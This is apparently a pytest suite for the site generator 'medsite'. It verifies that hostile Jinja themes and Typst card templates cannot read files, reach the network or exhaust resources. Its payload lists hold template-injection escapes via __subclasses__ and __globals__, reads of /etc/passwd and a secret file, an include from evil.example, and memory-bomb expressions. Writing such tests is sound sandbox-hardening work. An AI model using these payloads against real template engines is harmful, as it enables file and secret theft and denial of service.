"""A hostile theme can read no file, run no code, reach no network and see no more than its views; cards neither."""

import re
from pathlib import Path

import pytest

from medsite.model.output import Output
from medsite.model.problem import Defect
from medsite.render.cards import make_card
from medsite.render.press import make_bytes
from tests.hostile.sites import build_within, make_site, put, tell
from tests.laws.sites import read_tree
from tests.render.samples import a_text, a_theme, materials
from tests.render.test_cards import face, theme

HEAD = '<!doctype html><html lang="en"><title>x</title><h1>x</h1><p>'
SECRET = "correct-horse-battery"


@pytest.fixture
def site(tmp_path: Path) -> Path:
    """Return a site with a theme of its own and a secret beside it."""
    root = make_site(tmp_path / "site")
    put(root, "themes/mine/theme.yaml", "name: mine\nparent: clinic\n")
    put(root, "secret.txt", SECRET)
    put(root, "themes/mine/secret.txt", SECRET)
    config = root / "content/site.yaml"
    config.write_text(config.read_text() + "theme: mine\n")
    return root


def _with_page(root: Path, template: str) -> tuple[int, str]:
    put(root, "themes/mine/templates/404.html", f"{HEAD}{template}</p></html>")
    return tell(root, "build", "--no-cards", "--jobs", "1")


ESCAPES = [
    "{{ ''.__class__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ ''['__class__'] }}",
    "{{ ''|attr('__class__') }}",
    "{{ view.__class__ }}",
    "{{ view.__init__.__globals__ }}",
    "{{ view['__class__'] }}",
    "{{ view.site.__class__.__module__ }}",
    "{{ view.__dataclass_fields__ }}",
    "{{ view.__struct_fields__ }}",
    "{{ view.__slots__ }}",
    "{{ view._replace }}",
    "{{ view.head.__eq__ }}",
    "{{ t.__globals__ }}",
    "{{ t.__closure__ }}",
    "{{ t.__code__ }}",
    "{{ self.__class__ }}",
    "{{ self._TemplateReference__context }}",
    "{{ self.__init__.__globals__ }}",
    "{{ range.__class__ }}",
    "{{ dict.__mro__ }}",
    "{{ dict.fromkeys }}",
    "{{ cycler.__init__.__globals__ }}",
    "{{ joiner.__init__ }}",
    "{{ namespace.__init__ }}",
    "{{ lipsum.__globals__ }}",
    "{{ lipsum(5) }}",
    "{{ url_for }}",
    "{{ config }}",
    "{{ request }}",
    "{{ environment }}",
    "{{ _bench.materials }}",
    "{{ __builtins__ }}",
    "{{ open('secret.txt').read() }}",
    "{{ __import__('os').environ }}",
    "{{ '%s'|format(view) }}",
    "{{ '{0.__class__}'.format(view) }}",
    "{{ '{0.__class__}'.format_map({'0': view}) }}",
    "{{ ('{0.__class__}'|safe).format(view) }}",
    "{{ ('%(a)s'|e) % {'a': view} }}",
    "{{ '%s' % view }}",
    "{{ ['a']|map('attr', '__class__')|list }}",
    "{{ [view]|selectattr('__class__')|list }}",
    "{{ [view]|sum(attribute='__class__') }}",
    "{{ [view]|unique(attribute='__class__')|list }}",
    "{{ [view]|join(attribute='__class__') }}",
    "{{ [1]|map('__import__')|list }}",
    "{{ view|pprint }}",
    "{{ view|tojson }}",
    "{{ {}.__class__ }}",
    "{{ [].append(1) }}",
    "{{ view.site.navigation.append(1) }}",
    "{{ {}.update({1: 2}) }}",
    "{{ ().__class__.__bases__ }}",
    "{{ (1).__class__ }}",
    "{{ (1).real.__class__ }}",
    "{{ 'a'.encode() }}",
    "{{ 'a'.translate({97: 'b'}) }}",
    "{{ 'a'.join.__self__ }}",
    "{{ 'a'.upper.__self__ }}",
    "{{ view.head.canonical.__add__ }}",
    "{% set x = view %}{% set x.site = 1 %}{{ x }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{% with a = view.__class__ %}{{ a }}{% endwith %}",
    "{% macro m() %}{{ caller.__globals__ }}{% endmacro %}{% call m() %}{% endcall %}",
    "{% macro m() %}{% endmacro %}{{ m.__class__ }}{{ m._func }}{{ m._environment }}",
    "{% block a %}{% endblock %}{{ self.a.__globals__ }}",
    "{{ self.__getitem__('a')._context }}",
    "{% for x in [1] %}{{ loop.__class__ }}{% endfor %}",
    "{% for x in [1] %}{{ loop._iterator }}{% endfor %}",
    "{% set n = namespace() %}{{ n.__class__ }}{{ n._Namespace__attrs }}",
    "{% import 'parts/macros.html' as m %}{{ m.__dict__ }}",
    "{% include 'secret.txt' %}",
    "{% include '../secret.txt' %}",
    "{% include '../../secret.txt' %}",
    "{% include '/etc/passwd' %}",
    "{% include 'file:///etc/passwd' %}",
    "{% include '../theme.yaml' %}",
    "{% extends '../../../secret.txt' %}",
    "{% import '/etc/passwd' as p %}{{ p }}",
    "{% from 'secret.txt' import x %}",
    "{% include 'https://evil.example/x.html' %}",
    "{% do 1 %}",
    "{% debug %}",
    "{% trans %}a{% endtrans %}",
    "{{ 9 ** 9 ** 9 }}",
    "{{ 'a' * 10 ** 9 }}",
    "{{ 'a' * 999999999 }}",
    "{{ [0] * 999999999 }}",
    "{{ range(10000000)|list|length }}",
    "{{ 'a'|center(999999999) }}",
    "{{ 'a'|indent(999999999) }}",
    "{{ 'a'.ljust(999999999) }}",
    "{{ 'a'.zfill(999999999) }}",
    "{{ 'a'|wordwrap(0) }}",
    "{{ '%999999999d' % 1 }}",
    "{{ '%999999999s'|format(1) }}",
    "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
    "{{ 10|batch(999999999, 'x')|list }}",
    "{{ [1]|batch(999999999, 'x')|list }}",
    "{{ [1]|slice(999999999)|list }}",
    "{% include '404.html' %}",
    "{{ 'a'|replace('', 'b' * 900000)|replace('b', 'c' * 900000) }}",
    "{{ ('b' * 900000).replace('b', 'c' * 900000) }}",
    "{{ range(99999)|join('a' * 900000) }}",
    "{{ [1]|batch(linecount=999999999, fill_with='x')|list }}",
]


def _render(template: str) -> bytes:
    output = Output("404.html", "page", a_text(), "key", "404.html")
    theme = a_theme({"404.html": f"{HEAD}{template}</p></html>", "parts/macros.html": "{% macro m() %}x{% endmacro %}"})
    return make_bytes(output, materials(theme))


@pytest.mark.parametrize("template", ESCAPES)
def test_an_escape_is_refused_with_template_and_line(template: str) -> None:
    with pytest.raises(Defect) as caught:
        _render(template)
    problem = caught.value.problem
    assert problem.rule in {"T010", "T011"}
    assert problem.place.line == 1
    assert "root:" not in problem.message
    assert " object at 0x" not in problem.message


@pytest.mark.parametrize(
    "template", ["{{ view.__class__ }}", "{% include '../secret.txt' %}", "{{ [1]|slice(999999999)|list }}"]
)
def test_an_escape_ends_the_build_with_template_and_line(site: Path, template: str) -> None:
    code, said = _with_page(site, template)
    assert code == 1, said
    assert re.search(r"themes/mine/templates/404\.html:\d+:1: error T01[01]", said), said
    assert SECRET not in said
    assert not (site / "output").exists()


HARMLESS = [
    "{{ [view]|max(attribute='__class__') }}",
    "{{ [view]|groupby('__class__') }}",
    "{{ [view]|sort(attribute='__class__') }}",
    "{{ [view]|map(attribute='__class__')|list }}",
    "{{ ''.__doc__ is defined }}",
    "{{ 'a'.title() }}{{ 'a'.replace('a', 'b') }}{{ view.site.title|upper }}",
    "{{ view }}",
    "{{ view.head }}",
    "{{ self }}",
    "{{ _bench }}",
    "{{ 'a' * 1000 }}",
    "{% for n in range(100000) %}{% endfor %}",
    "{{ '{{ 7*7 }}' }}",
    "{{ '<script>alert(1)</script>' }}",
    "{{ ('a' * 50000)|truncate(9) }}{{ ['a', 'b']|join(' · ') }}{{ 'a-b'|replace('-', '_') }}{{ [1, 2]|batch(2)|list }}",
]


@pytest.mark.parametrize("template", HARMLESS)
def test_what_is_allowed_shows_nothing_of_the_machine(site: Path, template: str) -> None:
    _, said = _with_page(site, template)
    page = site / "output/404.html"
    shown = said + (page.read_text(encoding="utf-8") if page.exists() else "")
    assert SECRET not in shown
    assert str(site) not in shown
    assert "<script>alert" not in shown
    assert not re.search(r"0x[0-9a-f]{8,}|/site-packages/|\.pyc?\b", shown)


@pytest.mark.parametrize(
    "template",
    [
        "{% for a in range(99999) %}{% for b in range(99999) %}{% for c in range(99999) %}x{% endfor %}{% endfor %}{% endfor %}",
        "{% set n = namespace(x='a') %}{% for i in range(60) %}{% set n.x = n.x ~ n.x %}{% endfor %}{{ n.x|length }}",
        "{% for i in range(99999) %}{{ 'a' * 999999 }}{% endfor %}",
    ],
)
def test_a_theme_that_never_ends_cannot_take_more_than_the_machine_allows(site: Path, template: str) -> None:
    """Loops are not bounded by medsite: the system's limits end them, and then nothing is written."""
    pytest.importorskip("resource")
    put(site, "themes/mine/templates/404.html", f"{HEAD}{template}</p></html>")
    done = build_within(site, seconds=2, megabytes=1200)
    assert done.returncode != 0
    assert "Traceback" not in done.stderr
    assert not (site / "output").exists()


CARD = '#set page(width: 1200pt, height: 630pt)\n#set text(font: "Inter")\n'
CARDS = [
    '#read("secret.txt")',
    '#read("/secret.txt")',
    '#read("/etc/passwd")',
    '#read("../../../../../../etc/passwd")',
    '#image("/etc/passwd")',
    '#json("/secret.txt")',
    '#yaml("../theme.yaml")',
    '#csv("/etc/passwd")',
    '#toml("/etc/passwd")',
    '#xml("/etc/passwd")',
    '#cbor("/etc/passwd")',
    '#plugin("/x.wasm")',
    '#bibliography("/x.bib")',
    '#include "secret.txt"',
    '#include "/etc/passwd"',
    '#import "secret.typ": x',
    '#import "@preview/cetz:0.3.0"',
    '#import "@local/x:0.1.0"',
    '#{ import "/etc/passwd" }',
    '#let x = { import "/a.typ": b; b }',
    '#eval("read(\\"/etc/passwd\\")")',
    '#let e = eval; #e("1")',
    "#sys.inputs.nothing",
    "#(1, 2).map(read)",
    '#let r = read; #r("/etc/passwd")',
]


@pytest.mark.parametrize("card", CARDS)
def test_a_card_reads_no_file_and_fetches_no_package(card: str) -> None:
    with pytest.raises(Defect) as caught:
        make_card(face("A title"), theme(CARD + card + "\n"), {})
    assert re.match(r"C00\d", caught.value.problem.rule)
    assert "root:" not in caught.value.problem.message


@pytest.mark.parametrize("card", ['#read("/secret.txt")', '#import "@preview/cetz:0.3.0"'])
def test_a_card_that_asks_for_a_file_or_a_package_ends_the_build(site: Path, card: str) -> None:
    put(site, "themes/mine/card.typ", CARD + card + "\n")
    code, said = tell(site, "build", "--jobs", "1")
    assert code == 1, said
    assert re.search(r"themes/mine/card\.typ:\d+:\d+: error C00", said), said
    assert SECRET not in said
    assert not (site / "output").exists()


def test_the_site_builds_with_a_theme_that_means_well(site: Path) -> None:
    code, said = _with_page(site, "{{ t('not_found') if false else view.site.title }}")
    assert code == 0, said
    assert "404.html" in read_tree(site / "output")
